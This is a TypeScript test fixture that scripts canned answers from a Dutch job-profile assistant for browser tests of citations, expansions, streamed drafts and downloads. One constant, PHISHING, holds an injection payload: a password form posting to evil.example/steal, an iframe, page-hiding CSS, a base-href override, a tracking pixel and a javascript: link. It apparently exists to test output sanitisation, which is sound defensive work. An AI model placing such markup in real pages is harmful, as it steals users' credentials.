import { writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Answer, Citation } from "../../../src/domain/answer.js";
import type {
  AskOptions,
  Assistant,
  AssistantStatus,
  InterviewKitRequest,
  InterviewKitResult,
  Inventory,
  ReindexSummary,
  SectionText,
} from "../../../src/domain/assistant.js";
import { tempDir } from "../../support/knowledge.js";

/** A section long enough that "the whole section" is visibly more than the quote. */
export const SECTION_TEXT = [
  "De medewerker bewaakt de afspraken in de service level agreements.",
  "Hij of zij rapporteert maandelijks over de geleverde dienstverlening aan de opdrachtgever.",
  "Bij afwijkingen stelt de medewerker verbetermaatregelen voor en volgt die op.",
  "Afsluitende zin die alleen in de volledige sectie staat.",
].join("\n\n");
export const QUOTE = "rapporteert maandelijks over de geleverde dienstverlening";

const SLA: Citation = { source: "sla-manager.md", section: "Taken › Rapportage", quote: QUOTE, title: "Service level manager ICT", system: "ufo" };
const SLA_AGAIN: Citation = { ...SLA, quote: "bewaakt de afspraken" };
const SERVICEDESK: Citation = {
  source: "servicedesk.md",
  section: "Schaal › Niveau C1",
  quote: "Niveau C1",
  title: "Servicedesk medewerker ICT",
  system: "provincie",
};

const PHISH_DOC: Citation = { source: "phish.md", section: "Inloggen", quote: "Log opnieuw in", title: "Document met een formulier", system: "rijk" };

export const PHISHING =
  'Log opnieuw in om verder te lezen.\n\n<form action="https://evil.example/steal" method="post"><input type="password" name="p" placeholder="Wachtwoord"><button>Inloggen</button></form>\n\n<iframe src="https://evil.example/"></iframe><style>body{display:none}</style><base href="https://evil.example/"><img src="https://evil.example/pixel.png">\n\n[klik hier](javascript:alert(1)) en [veilig](https://example.org/)';

/**
 * An Assistant with scripted answers for the browser tests: a long cited
 * answer with [n] markers, merged citations and an expansion; an answer with a
 * phishing form; and a streamed draft that verification then replaces.
 */
export class ScriptedAssistant implements Assistant {
  readonly knowledgeDir = tempDir("fw-web-knowledge-");
  readonly kitRequests: InterviewKitRequest[] = [];
  /** The browser test checks the download, not the document: these bytes stand for the .docx. */
  static readonly KIT_BYTES = Buffer.from("PK\u0003\u0004 scripted interview kit");

  async interviewKit(request: InterviewKitRequest): Promise<InterviewKitResult> {
    this.kitRequests.push(request);
    return {
      ok: true,
      role: request.role,
      fileName: "interviewkit-service-level-manager-ict.docx",
      docx: ScriptedAssistant.KIT_BYTES,
      competencies: 1,
      questions: 1,
    };
  }

  /** Milliseconds the draft stays on screen before the verified answer arrives. */
  draftDelayMs = 1500;

  constructor() {
    writeFileSync(join(this.knowledgeDir, "sla-manager.md"), `# Service level manager ICT\n\n## Taken\n\n### Rapportage\n\n${SECTION_TEXT}\n`);
    writeFileSync(join(this.knowledgeDir, "servicedesk.md"), "# Servicedesk medewerker ICT\n\nNiveau C1\n");
  }

  async ask(question: string, options: AskOptions = {}): Promise<Answer> {
    const base = {
      question,
      language: "nl" as const,
      intent: "general" as const,
      answered: true,
      mode: "offline" as const,
      followUps: ["Welke schaal past bij deze functie?"],
      latencyMs: 1,
    };
    if (question.includes("lang")) {
      const items = Array.from({ length: 40 }, (_, i) => `- Taak ${i + 1}: de medewerker bewaakt afspraak ${i + 1} met de opdrachtgever [${(i % 3) + 1}]`);
      return {
        ...base,
        intent: "catalogue",
        answer: `**Taken van de service level manager** [1]:\n\n${items.join("\n")}\n- …en 12 meer\n\nDe schaal staat in het servicedeskprofiel [3].`,
        citations: [SLA, SLA_AGAIN, SERVICEDESK],
        expansions: [{ label: "…en 12 meer", markdown: Array.from({ length: 12 }, (_, i) => `- Extra taak ${i + 41}`).join("\n") }],
      };
    }
    if (question.includes("inline")) {
      return {
        ...base,
        answer: "Competenties: Analyseren, Samenwerken …en 3 meer. Meer weten? Vraag het [1].",
        citations: [SLA],
        expansions: [{ label: "…en 3 meer", markdown: "- Onderhandelen\n- Klantgerichtheid\n- Plannen" }],
      };
    }
    if (question.includes("toetsvragen"))
      return {
        ...base,
        intent: "interview",
        answer: "**Toetsvragen voor rapportage** [1]\n\n1. Hoe rapporteer je over een gemiste afspraak?",
        citations: [SLA],
      };
    if (question.includes("phishing")) return { ...base, answer: PHISHING, citations: [PHISH_DOC] };
    if (question.includes("concept")) {
      for (const delta of ["De servicedesk ", "medewerker zit op ", "schaal 99 [1]."]) options.onToken?.(delta);
      await new Promise((resolve) => setTimeout(resolve, this.draftDelayMs));
      return { ...base, mode: "llm", answer: "De servicedesk medewerker ICT zit op **niveau C1** [1].", citations: [SERVICEDESK] };
    }
    return { ...base, answer: "Zonder markers: de medewerker rapporteert maandelijks.", citations: [SLA, SERVICEDESK] };
  }

  status(): AssistantStatus {
    return { ready: true, documents: 2, chunks: 4, mode: "offline", builtAt: "2026-11-01T08:00:00.000Z" };
  }

  inventory(): Inventory {
    return {
      documents: [
        {
          source: "sla-manager.md",
          title: "Service level manager ICT",
          system: "ufo",
          levels: ["Schaal 11"],
          competencies: 3,
          competencyNames: ["Onderhandelen", "Analyseren", "Samenwerken"],
          roles: [],
          careerEdges: ["Schaal 11 → Schaal 12"],
          facts: 0,
          tables: 0,
          warnings: [],
        },
        {
          source: "servicedesk.md",
          title: "Servicedesk medewerker ICT",
          system: "provincie",
          levels: ["C1"],
          competencies: 0,
          competencyNames: [],
          roles: [],
          careerEdges: [],
          facts: 0,
          tables: 0,
          warnings: ["no competency found"],
        },
      ],
      skipped: [{ file: "scan-zonder-tekst.pdf", reason: "PDF has no text layer" }],
      builtAt: "2026-11-01T08:00:00.000Z",
    };
  }

  examples(language: "nl" | "en"): string[] {
    return language === "en"
      ? ["Which scale fits the profile?", "Give interview questions for negotiating"]
      : ["Welke schaal past bij het profiel?", "Geef toetsvragen voor onderhandelen"];
  }

  section(source: string, section: string): SectionText | undefined {
    if (source === SLA.source && section === SLA.section) return { source, title: SLA.title!, system: "ufo", section, text: SECTION_TEXT };
    if (source === PHISH_DOC.source && section === PHISH_DOC.section) return { source, title: PHISH_DOC.title!, system: "rijk", section, text: PHISHING };
    if (source === SERVICEDESK.source && section === SERVICEDESK.section)
      return { source, title: SERVICEDESK.title!, system: "provincie", section, text: "Niveau C1" };
    return undefined;
  }

  async reindex(): Promise<ReindexSummary> {
    await new Promise((resolve) => setTimeout(resolve, 300));
    return {
      documents: 2,
      sections: 4,
      chunks: 4,
      embedded: 0,
      reused: 4,
      removed: 0,
      skipped: [{ file: "scan-zonder-tekst.pdf", reason: "PDF has no text layer" }],
      seconds: 0.3,
    };
  }
}
